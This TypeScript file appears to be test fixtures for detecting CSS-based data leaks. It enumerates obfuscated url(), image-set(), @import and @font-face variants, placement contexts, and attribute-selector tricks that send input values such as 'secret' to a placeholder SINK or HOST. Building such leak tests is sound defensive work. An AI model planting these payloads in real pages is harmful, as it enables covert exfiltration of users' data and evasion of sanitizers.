import type { Leak } from './leak.ts'

/** Properties that take an image or a reference, and what shows an element that has them. */
const PROPERTIES: readonly string[] = [
  'background:V',
  'background-image:V',
  'background:none,V no-repeat 0 0/9px red',
  'border:1px solid;border-image:V 1',
  'border:1px solid;border-image-source:V',
  'display:list-item;list-style:V',
  'display:list-item;list-style-image:V',
  'content:V',
  'cursor:V,auto',
  'mask:V',
  'mask-image:V',
  '-webkit-mask:V',
  '-webkit-mask-image:V',
  '-webkit-mask-box-image:V',
  'float:left;shape-outside:V',
  '-webkit-box-reflect:below 0 V',
]

/** How one address can be written where an image is meant. */
const IMAGES: readonly string[] = [
  'url(SINK)',
  'url( "SINK" )',
  "url('SINK')",
  'URL(SINK)',
  'u\\72l(SINK)',
  'u\\000072 l(SINK)',
  '\\75\\52\\6c("SINK")',
  'url(\\68ttp://HOST/x)',
  'url("\\68 ttp\\3a //HOST/x")',
  'url("http:/\\\n/HOST/x")',
  'url(//HOST/x)',
  'url("\\\\\\\\HOST\\\\x")',
  'url("HtTp://HOST/x")',
  'url("http:HOST/../..//HOST/x")',
  'url("https://HOST/x")',
  'url(" \tSINK\t ")',
  'image-set("SINK" 1x)',
  'image-set(url(SINK) 1x,url(SINK) 2x)',
  'image-set("SINK" type("image/png") 1x)',
  'image-set("SINK" 96dpi)',
  '-webkit-image-set(url(SINK) 1x)',
  'Image-Set("SINK" 1x)',
  'im\\61ge-set("SINK" 1x)',
  'image-set(linear-gradient(red,red) 3x,"SINK" 1x)',
  '-webkit-cross-fade(url(SINK),url(SINK),50%)',
  'cross-fade(url(SINK),url(SINK))',
  'cross-fade(url(SINK) 50%,red)',
  '/**/url(SINK)/**/',
  'url(SINK',
  'light-dark(url(SINK),url(SINK))',
  'src("SINK")',
  'image("SINK")',
]

const NOT_IN_CHROMIUM: ReadonlyMap<string, string> = new Map([
  ['src("SINK")', 'no src() here'],
  ['image("SINK")', 'no image() here'],
  ['cross-fade(url(SINK),url(SINK))', 'only with its prefix here'],
  ['cross-fade(url(SINK) 50%,red)', 'only with its prefix here'],
])

/** Where a declaration `D` may stand so that it is of an element. */
const PLACES: readonly string[] = [
  '<style>p{D}</style><p>x',
  '<p style="D">x',
  '<style>@media screen{p{D}}</style><p>x',
  '<style>@media not print{@supports (color:red){@layer a{p{D}}}}</style><p>x',
  '<style>@supports not (x:y){p{D}}</style><p>x',
  '<style>@container (width>1px){p{D}}</style><div style="container-type:inline-size"><p>x</div>',
  '<style>@scope (div) to (b){p{D}}</style><div><p>x</div>',
  '<style>div{p{D}}</style><div><p>x</div>',
  '<style>div{color:red;& > p:not(b){D}}</style><div><p>x</div>',
  '<style>div{@media screen{p{D}}}</style><div><p>x</div>',
  '<style>p::before{content:"x";D}</style><p>x',
  '<style>p::after{content:"x";D}</style><p>x',
  '<style>p::first-line{D}</style><p>x',
  '<style>p::first-letter{D}</style><p>x',
  '<style>@keyframes k{from{D}to{D}}p{animation:k 9s infinite}</style><p>x',
  '<style>@starting-style{p{D}}p{transition:all 9s allow-discrete}</style><p>x',
  '<style>input[value^="s"]{D}</style><input value="secret">',
  '<style>input[value$="t" i]~b{D}</style><input value="secret"><b>x</b>',
  '<style>form:has(input[value*="cre"]){D}</style><form><input value="secret"></form>',
  '<style>input:not([value="x"]):placeholder-shown,input:required{D}</style><input required>',
  '<style>:root{D}</style>x',
  '<style>body{D}</style>x',
  '<style>p{x:"\n;D}</style><p>x',
  '<style><!-- p{D} --></style><p>x',
  '<style>]{}p{D}</style><p>x',
  '<style>/*</*/p{D}</style><p>x',
  '<style>@charset "utf-8";@namespace url(//HOST/no);@namespace s url("x");*|p{D}</style><p>x',
  '<style media="(min-width:1px)">p{D}</style><p>x',
  '<style type="TEXT/CSS">p{D}</style><p>x',
  '<svg><style>rect{D}</style><foreignObject width=99 height=99><style>b{D}</style><b xmlns="http://www.w3.org/1999/xhtml">x</b></foreignObject></svg>',
  '<div><template shadowrootmode=open><style>:host{display:block;D}</style>x</template></div>',
  '<div><template shadowrootmode=open><style>::slotted(b){D}</style><slot></slot></template><b>x</b></div>',
  '<style>div::part(q){D}</style><div><template shadowrootmode=open><b part=q>x</b></template></div>',
  '<style>dialog::backdrop{D}p:popover-open{D}dialog{D}</style><dialog open>x</dialog>',
  '<style>details::details-content{D}summary{D}</style><details open><summary>x</summary>x</details>',
  '<style>input::placeholder{D}input::-webkit-file-upload-button,input{D}</style><input placeholder=x>',
  '<style>progress::-webkit-progress-bar{D}progress{appearance:none}</style><progress value=1></progress>',
]

/** Whole pieces, where the address stands in no plain declaration of an image. */
const PIECES: readonly Leak[] = [
  ...[
    '@import "SINK.css";',
    '@import url(SINK.css);',
    '@import url("SINK.css") layer(a) supports(color:red) screen;',
    '@import\t"SINK.css"layer;',
    '@IMPORT "SINK.css"',
    '@\\69mport "SINK.css";',
    '@im\\70 ort u\\72l("SINK.css");',
    '@charset "x";@layer a,b;@import url(SINK.css);',
    '<!--@import "SINK.css";-->',
    '/**/@import/**/"SINK.css"/**/;',
    '@import url(\n SINK.css\n );',
    '@import "\\68ttp://HOST/x.css";',
    "@import '//HOST/x.css' not print;",
    '@import url("data:text/css,@import url(SINK.css);");',
    '@import "data:text/css,body{background:url(SINK)}";',
  ].map((css) => ({ name: css, markup: `<style>${css}</style>x` })),
  ...[
    'url(SINK)',
    'url("SINK")format("woff2")',
    'local("no such font"),url(SINK)',
    'url(SINK)format(woff2)tech(variations)',
    'u\\72 l("SINK")',
  ].map((src) => ({
    name: `@font-face ${src}`,
    markup: `<style>@font-face{font-family:x;src:${src}}body{font-family:x}</style>text`,
  })),
  {
    name: '@font-face unicode-range',
    markup:
      '<style>@font-face{font-family:x;src:url(SINK);unicode-range:U+41}p{font:9px x}</style><p>A',
  },
  {
    name: '@font-face of a nested rule',
    markup:
      '<style>@media screen{@layer a{@font-face{font-family:x;src:url(SINK)}}}p{font:9px x}</style><p>A',
  },
  ...[
    ['--x:url(SINK)', 'var(--x)'],
    ['--x:image-set("SINK" 1x)', 'var(--x)'],
    ['--x:"SINK"', 'image-set(var(--x) 1x)'],
    ['--x:{a:url(SINK)};--y:url(SINK)', 'var(--z,var(--y))'],
    ['--\\78:url(SINK)', 'var(--x)'],
    ['--x:u\\72l(SINK)', 'var(--x,none)'],
    ['', 'var(--none,url(SINK))'],
    ['--a:1', 'if(style(--a:1):url(SINK);else:none)'],
    ['--a:1', 'if(media(min-width:1px):url(SINK))'],
  ].map(([own = '', value = '']) => ({
    name: `${own} then ${value}`,
    markup: `<style>:root{${own}}p{background-image:${value}}</style><p>x`,
  })),
  {
    name: '@property',
    markup:
      '<style>@property --p{syntax:"<image>";inherits:true;initial-value:url(SINK)}p{background:var(--p)}</style><p>x',
  },
  {
    name: '@property set elsewhere',
    markup:
      '<style>@property --p{syntax:"*";inherits:true}div{--p:url(SINK)}p{background:var(--p)}</style><div><p>x</div>',
  },
  {
    name: '@function',
    markup: '<style>@function --f(){result:url(SINK)}p{background:--f()}</style><p>x',
  },
  {
    name: 'attr() in image-set()',
    markup:
      '<style>p{background:image-set(attr(data-u type(<string>)) 1x)}</style><p data-u="SINK">x',
    silent: 'an address may not come from attr() (CSS Values 5)',
  },
  {
    name: 'attr() in url()',
    markup: '<style>p{background:url(attr(data-u))}</style><p data-u="SINK">x',
    silent: 'url() holds a token',
  },
  ...['clip-path:url(SINK.svg#x)', 'mask:url(SINK.svg#x)', '-webkit-clip-path:url(SINK.svg#x)'].map(
    (css) => ({ name: css, markup: `<style>p{${css}}</style><p>x` }),
  ),
  ...['filter', 'backdrop-filter', '-webkit-filter', 'offset-path'].map((name) => ({
    name: `${name} of another origin`,
    markup: `<style>p{${name}:url(SINK.svg#x)}</style><p>x`,
    silent: 'only of the same origin',
  })),
  ...['filter', '-webkit-filter', 'clip-path', 'mask', 'background', 'cursor'].map((name) => ({
    name: `${name} of the agent’s own origin`,
    markup: `<style>p{${name}:url(OWN)${name === 'cursor' ? ',auto' : ''}}</style><p>x`,
  })),
  ...['fill', 'stroke', 'marker', 'marker-start', 'mask', 'clip-path'].map((name) => ({
    name: `${name} of a shape in CSS`,
    markup: `<style>path{${name}:url(SINK.svg#x)}</style><svg><path d="M0 0h9v9" /></svg>`,
  })),
  {
    name: 'a style in a formula',
    markup: '<math><style>mi{background:url(SINK)}</style><mi>x</mi></math>',
    silent: 'MathML has no such element',
  },
  {
    name: 'scroll bars',
    markup:
      '<style>div::-webkit-scrollbar{width:9px}div::-webkit-scrollbar-thumb{background:url(SINK)}</style><div style="overflow:scroll;height:30px"><p style="height:99px"></div>',
    silent: 'browsers under test hide them',
  },
  { name: 'an address that never ends', markup: "<p style='background:url(\"SINK'>x" },
  {
    name: 'filter in a data: document that loads',
    markup:
      "<style>p{filter:url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><filter id='f'><feImage href='SINK'/></filter></svg>#f\")}</style><p>x",
    silent: 'documents of references load nothing',
  },
  {
    name: 'background of a data: SVG that loads',
    markup:
      "<style>p{background:url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='SINK'/><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='SINK'/></foreignObject></svg>\")}</style><p>x",
    silent: 'an SVG as an image loads nothing',
  },
  {
    name: '@counter-style',
    markup:
      '<style>@counter-style c{system:cyclic;symbols:url(SINK);suffix:""}li{list-style:c}</style><li>x',
    silent: 'symbols are texts here',
  },
  {
    name: '@position-try, @page, @view-transition, @font-palette-values',
    markup:
      '<style>@page{background:url(SINK);@top-left{content:url(SINK)}}@position-try --a{background:url(SINK)}@view-transition{navigation:auto;types:url(SINK)}</style>x',
    silent: 'nothing is printed, tried or navigated',
  },
  {
    name: 'behavior, -moz-binding, @document',
    markup:
      '<style>p{behavior:url(SINK);-moz-binding:url(SINK#x)}@document url(SINK){p{color:red}}</style><p>x',
    silent: 'of other browsers',
  },
  {
    name: 'view transition names',
    markup:
      '<style>:root{view-transition-name:a}::view-transition-group(a),::view-transition{background:url(SINK)}</style>x',
    silent: 'no transition runs',
  },
  {
    name: '::highlight() and ::selection',
    markup: '<style>::selection,::highlight(a){background:url(SINK)}</style>x',
    silent: 'highlights have no images',
  },
  {
    name: '::marker',
    markup: '<style>li::marker{content:url(SINK)}</style><li>x',
  },
  {
    name: '::scroll-button() and ::scroll-marker',
    markup:
      '<style>div{overflow:scroll;scroll-marker-group:after}div::scroll-button(down){content:url(SINK)}div>p::scroll-marker{content:url(SINK)}</style><div style="height:30px"><p style="height:99px">x</div>',
  },
  {
    name: '::checkmark and ::picker-icon',
    markup:
      '<style>select,::picker(select){appearance:base-select}select::picker-icon{content:url(SINK)}</style><select><option>x</select>',
  },
]

const [FIRST = ''] = IMAGES

function inPlace(place: string, css: string): string {
  const quoted = place.includes('style="D"') ? css.replaceAll('"', '&quot;') : css
  return place.replaceAll('D', quoted)
}

export const CSS_LEAKS: readonly Leak[] = [
  ...PROPERTIES.map((property) => {
    const css = property.replace('V', FIRST)
    return { name: css, markup: inPlace('<style>p{D}</style><p>x', css) }
  }),
  ...IMAGES.flatMap((value) =>
    PLACES.slice(0, 2).map((place) => ({
      name: `${value} in ${place}`,
      markup: inPlace(place, `background:${value}`),
      ...silence(NOT_IN_CHROMIUM.get(value)),
    })),
  ),
  ...PLACES.slice(2).map((place) => ({
    name: place,
    markup: inPlace(place, `background:${FIRST}`),
  })),
  ...PIECES,
]

function silence(silent: string | undefined): { silent?: string } {
  return silent === undefined ? {} : { silent }
}
